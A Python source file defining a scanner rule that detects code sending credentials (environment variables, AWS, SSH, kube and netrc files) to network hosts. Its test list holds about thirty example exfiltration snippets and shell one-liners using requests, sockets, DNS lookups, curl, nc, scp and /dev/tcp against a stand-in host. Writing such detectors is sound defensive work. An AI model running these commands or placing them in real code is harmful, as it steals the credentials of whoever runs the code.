"""Credentials handed to a host in the network: the shapes of code that steals them."""

from __future__ import annotations

import ast
from collections.abc import Iterator

from ...sdk import (
    Call,
    Code,
    Confidence,
    Match,
    Severity,
    Span,
    Value,
    host,
    is_nearby,
    is_remote,
    matching_calls,
    own_shells,
    rule,
)
from .credentials import FILES, path_text, reads_credential
from .environ import VALUES, Holding
from .leaking_lines import leaks
from .printers import values_of
from .reach import Step, last_parts, made_of, settled
from .shells import in_cell

_VERBS = ("get", "post", "put", "patch", "request", "delete", "head", "send")
_CLIENTS = (
    *("requests", "requests.Session()", "requests.session()", "httpx", "httpx.Client()", "httpx.AsyncClient()"),
    *("aiohttp.ClientSession()", "urllib3.PoolManager()", "urllib3"),
)
_LOOKUPS = (
    *("socket.gethostbyname", "socket.getaddrinfo", "socket.gethostbyname_ex", "dns.resolver.resolve"),
    *("dns.resolver.query", "dns.resolver.Resolver().resolve"),
)
_SENDERS = (
    *(f"{client}.{verb}" for client in _CLIENTS for verb in _VERBS),
    *("urllib.request.urlopen", "urllib.request.Request", "urllib2.urlopen", "urllib.urlopen"),
    *("http.client.HTTPSConnection().request", "http.client.HTTPConnection().request"),
    *(f"{made}.{verb}" for made in ("socket.socket()", "socket.create_connection()") for verb in ("send", "sendall")),
    *(
        "socket.socket().sendto",
        "smtplib.SMTP().sendmail",
        "smtplib.SMTP_SSL().sendmail",
        "smtplib.SMTP().send_message",
    ),
    *("smtplib.SMTP_SSL().send_message", "ftplib.FTP().storbinary", "ftplib.FTP_TLS().storbinary"),
    *("paho.mqtt.publish.single", "websocket.create_connection().send", "websockets.connect().send"),
    *("pyperclip.copy", "telegram.Bot().send_document", "telegram.Bot().send_message"),
    *_LOOKUPS,
)
# Uploads that are given the path of a file.
_UPLOADERS = (
    *(
        "*.upload_file",
        "*.upload_fileobj",
        "*.upload_from_filename",
        "*.upload_folder",
        "*.upload_blob",
        "*.put_object",
    ),
    *("paramiko.SSHClient().open_sftp().put", "*.upload_from_string", "wandb.save", "mlflow.log_artifact"),
    *("mlflow.log_artifacts",),
)
_OPENERS = ("open", "io.open", "codecs.open", "builtins.open", "configparser.ConfigParser().read", "json.load")
_OPENER_LASTS = last_parts(_OPENERS)
_READS = ("read_text", "read_bytes", "open", "read")


@rule(
    id="credential-exfiltration",
    on=Code,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    title="Credentials sent to a host in the network",
    cwe=[506, 200],
    owasp=["LLM02"],
    atlas=["AML.T0025", "AML.T0055"],
    screen=(
        *("environ", ".aws", ".ssh", "netrc", "kube", "credential", "env", "id_rsa", "gcloud", "shadow", "logins.json"),
        *("AWS_SECRET", "kaggle.json", "huggingface", "Login Data", "/run/secrets", "pypirc", "docker/config"),
    ),
    bad=[
        "import os, requests\n«requests.post('https://drop.tool.dev/c', json=dict(os.environ))»",
        "import os, requests as r\ndata = {'env': os.environ.copy()}\n"
        "# %%\n«r.post('https://drop.tool.dev', json=data)»",
        "import os, json, urllib.request\nbody = json.dumps(dict(os.environ)).encode()\n"
        "«urllib.request.urlopen('https://drop.tool.dev', data=body)»",
        "import os, httpx, base64\nx = base64.b64encode(str(os.environ).encode())\n"
        "«httpx.get(f'https://drop.tool.dev/?q={x}')»",
        "import os, requests\nfor k, v in os.environ.items():\n"
        "    «requests.get('https://drop.tool.dev', params={k: v})»",
        "import os\nfrom requests import post as send\nkw = {'data': os.environ}\n"
        "«send('https://drop.tool.dev', **kw)»",
        "import os, requests\np = os.path.expanduser('~/.aws/credentials')\nwith open(p) as f:\n    text = f.read()\n"
        "# %%\n«requests.post('https://drop.tool.dev', data=text)»",
        "from pathlib import Path\nimport requests\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\n"
        "«requests.post('https://drop.tool.dev', data={'k': key})»",
        "import requests, subprocess\n«requests.post('https://drop.tool.dev', data=subprocess.check_output(['env']))»",
        "import glob, os, requests\nfor p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
        "    «requests.post('https://drop.tool.dev', data=open(p).read())»",
        "import requests\n«requests.post('https://drop.tool.dev', files={'f': open('/root/.kube/config', 'rb')})»",
        "import os, socket\ns = socket.socket()\ns.connect(('drop.tool.dev', 80))\n"
        "«s.sendall(str(dict(os.environ)).encode())»",
        "import os, socket\nt = os.environ['AWS_SECRET_ACCESS_KEY']\n«socket.gethostbyname(f'{t}.drop.tool.dev')»",
        "import os, requests\n«requests.get('https://drop.tool.dev/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])»",
        "import os, requests\ns = requests.Session()\n"
        "«s.post('https://drop.tool.dev', json={k: v for k, v in os.environ.items()})»",
        "import boto3, requests\nc = boto3.Session().get_credentials()\n"
        "«requests.post('https://drop.tool.dev', json={'a': c.access_key, 's': c.secret_key})»",
        "import boto3\n«boto3.client('s3').upload_file('/root/.aws/credentials', 'bucket', 'c')»",
        "!«cat ~/.aws/credentials | curl -X POST --data-binary @- https://drop.tool.dev»",
        "!«env | nc drop.tool.dev 4444»",
        "!«curl -d @$HOME/.ssh/id_rsa https://drop.tool.dev»",
        '!«curl -s -d "$(env | base64)" https://drop.tool.dev»',
        "!«wget --post-file=/root/.netrc https://drop.tool.dev»",
        "!«tar czf - ~/.ssh | nc drop.tool.dev 4444»",
        "!«nslookup $(cat ~/.aws/credentials | base64 -w0).drop.tool.dev»",
        "%%bash\nset -e\n«nc drop.tool.dev 4444 < ~/.ssh/id_ed25519»",
        "!«scp ~/.ssh/id_rsa me@drop.tool.dev:»",
        "!«cat ~/.kube/config > /dev/tcp/203.0.113.9/4444»",
        "import os\n«os.system('env | curl -d @- https://drop.tool.dev')»",
        "import subprocess\n«subprocess.run('cat ~/.aws/credentials | nc drop.tool.dev 80', shell=True)»",
    ],
    ok=[
        "import os, requests\nrequests.post('https://api.tool.dev', headers={'Authorization': os.environ['TOKEN']})",
        "import os, requests\nrequests.get('https://api.tool.dev', params={'key': os.environ.get('API_KEY')})",
        "import os, requests\nrequests.post('http://localhost:8000', json=dict(os.environ))",
        "import os, subprocess\nsubprocess.run(['python', 'train.py'], env=os.environ)",
        "import os\nprint(dict(os.environ))",
        "import boto3, os\ns3 = boto3.client('s3', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])",
        "import paramiko\nc = paramiko.SSHClient()\nc.connect('host.tool.dev', key_filename='/home/me/.ssh/id_rsa')",
        "import requests\nrequests.post('https://api.tool.dev', json={'path': '~/.ssh/id_rsa'})",
        "import requests\nrequests.post('https://api.tool.dev', data=open('report.json').read())",
        "import os, requests\nrequests.get(f\"https://{os.environ['HOST']}/v1\", timeout=5)",
        "import os, requests\nenv = dict(os.environ)\nrequests.get('https://api.tool.dev')",
        "import os, requests\nrequests.post('https://api.tool.dev', json={'user': os.environ.get('USER')})",
        "text = 'cat ~/.aws/credentials | nc drop.tool.dev 80'",
        "!scp -i ~/.ssh/id_rsa model.pt me@host.tool.dev:",
        "!ssh -i ~/.ssh/id_rsa me@host.tool.dev ls",
        "!cat ~/.ssh/id_rsa.pub | ssh me@host.tool.dev 'cat >> .ssh/authorized_keys'",
        "!curl -d @body.json https://api.tool.dev",
        "!curl --netrc-file ~/.netrc https://api.tool.dev",
        "!cp kaggle.json ~/.kaggle/kaggle.json",
        "!env | grep PATH",
        '!curl -H "Authorization: Bearer $TOKEN" https://api.tool.dev',
        "!curl -s https://api.tool.dev | tee ~/.kube/config",
        "!env | curl -d @- http://localhost:9000",
        "# %% [markdown]\n!env | nc drop.tool.dev 80",
    ],
)
def credential_exfiltration(code: Code) -> Iterator[Match]:
    """This code collects keys and passwords of whoever runs it and sends them away, as malicious notebooks do.

    Do not run it. If it did run, change every credential that was in the environment or in these files, and find out
    who wrote the cell."""
    for call in code.calls(*_SENDERS):
        yield from _sent(code, call)
    for call in code.calls(*_UPLOADERS):
        if any(_is_kept_file(code, value) for value in values_of(call)):
            yield Match(call.span, "A file of credentials is uploaded", Severity.HIGH)
    for shell in own_shells(code):
        for command, last in leaks(shell):
            yield Match(in_cell(shell, Span(command.span.start, last.span.end)))
    yield from matching_calls(code, leaks)


def _sent(code: Code, call: Call) -> Iterator[Match]:
    values = values_of(call)
    url = call.argument(1 if call.name.endswith(".request") and "http.client" not in call.name else 0, "url")
    where = url.text if url is not None else ""
    if is_nearby(where):
        return
    kept = next((kind for value in values if (kind := _taken(code, call, value))), "")
    if kept:
        sure = is_remote(where) or not where
        yield Match(
            call.span,
            f"{kept} sent to {host(where) or 'a host in the network'}",
            severity=None if sure else Severity.HIGH,
        )


def _taken(code: Code, call: Call, value: Value) -> str:
    """What a value holds that must not leave the machine, in words; empty if it is nothing of the kind."""
    is_lookup = call.name in _LOOKUPS
    opened = False
    holding = Holding(code)
    for step in made_of(code, value, holding.is_part):
        if holding(step) in VALUES:
            return "The environment"
        if reads_credential(code, step) and (is_lookup or _is_never_sent(code, step)):
            return "A credential"
        opened = opened or _opens(code, step)
        if opened and FILES.search(path_text(step, code)):
            return "A file of credentials"
    return ""


def _opens(code: Code, step: Step) -> bool:
    here = settled(step, code)
    node = here.node
    if not isinstance(node, ast.Call):
        return False
    is_method = isinstance(node.func, ast.Attribute) and node.func.attr in _READS
    return is_method or here.called(code, _OPENER_LASTS) in _OPENERS


def _is_never_sent(code: Code, step: Step) -> bool:
    """Whether it is a credential that no service is ever given: it only signs."""
    text = settled(step, code)
    name = text.value.name
    if "get_credentials()" in name:
        return True
    return "AWS_SECRET_ACCESS_KEY" in path_text(text, code)


def _is_kept_file(code: Code, value: Value) -> bool:
    text = path_text(Step(value, {}), code)
    return len(text) < 300 and FILES.search(text) is not None
